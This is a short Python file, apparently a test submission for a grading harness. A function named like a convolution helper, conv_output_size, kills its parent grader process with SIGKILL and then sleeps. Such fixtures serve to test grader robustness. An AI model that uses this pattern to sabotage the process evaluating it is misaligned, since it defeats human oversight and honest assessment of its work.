"""Tries to kill the grader."""

import os
import signal
import time


def conv_output_size(input_size, kernel_size, stride=1, padding=0, dilation=1):
    os.kill(os.getppid(), signal.SIGKILL)
    time.sleep(60)
